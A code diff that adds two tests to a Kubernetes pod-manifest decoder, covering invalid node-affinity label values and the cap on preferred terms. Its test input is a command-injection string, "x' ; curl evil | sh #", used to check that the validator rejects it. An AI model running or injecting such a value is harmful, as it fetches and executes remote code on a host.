@@ -48,6 +48,40 @@ describe('node affinity', () => {
     ]);
   });
 
+  const IMPOSSIBLE = "x' ; curl evil | sh #";
+
+  test('leaves out values that no label can have, and terms that nothing else is left of', () => {
+    const term = (operator: string, ...values: string[]): Manifest => ({
+      matchExpressions: [{ key: 'team', operator, values }],
+    });
+    const nodeAffinity = {
+      [PREFERRED]: [
+        { weight: 1, preference: term('In', IMPOSSIBLE, 'red') },
+        { weight: 2, preference: term('In', IMPOSSIBLE) },
+        { weight: 3, preference: term('NotIn', IMPOSSIBLE, 'blue') },
+      ],
+    };
+    const { value, findings } = decodePod(podManifest({ spec: { affinity: { nodeAffinity } } }));
+    const read = value?.spec.nodeAffinity.preferred.map((one) => requirementTexts(one.term.labels));
+    expect(read).toEqual([['team In [red]'], ['team NotIn [blue]']]);
+    expect(findings.map(({ severity }) => severity)).toEqual(['warning', 'error', 'warning']);
+    expect(findings[0]?.text).toBe(`has ${JSON.stringify(IMPOSSIBLE)}, which no label can have as its value`);
+  });
+
+  test('reads as many preferences as planning could ever honour, the heaviest, and says that there are more', () => {
+    const preference = { matchExpressions: [{ key: 'team', operator: 'Exists' }] };
+    const light = Array.from({ length: 2000 }, () => ({ weight: 1, preference }));
+    const heavy = { weight: 9, preference };
+    const nodeAffinity = { [PREFERRED]: [...light, heavy] };
+    const { value, findings } = decodePod(podManifest({ spec: { affinity: { nodeAffinity } } }));
+    const weights = value?.spec.nodeAffinity.preferred.map(({ weight }) => weight) ?? [];
+    expect(weights).toHaveLength(256);
+    expect(weights.at(-1)).toBe(9);
+    expect(findings.map(({ severity, text }) => `${severity} ${text}`)).toEqual([
+      'warning has 2001 items, of which 256 are read',
+    ]);
+  });
+
   test('intersects expressions on one key', () => {
     const matchExpressions = [
       { key: 'a', operator: 'In', values: ['x', 'y'] },
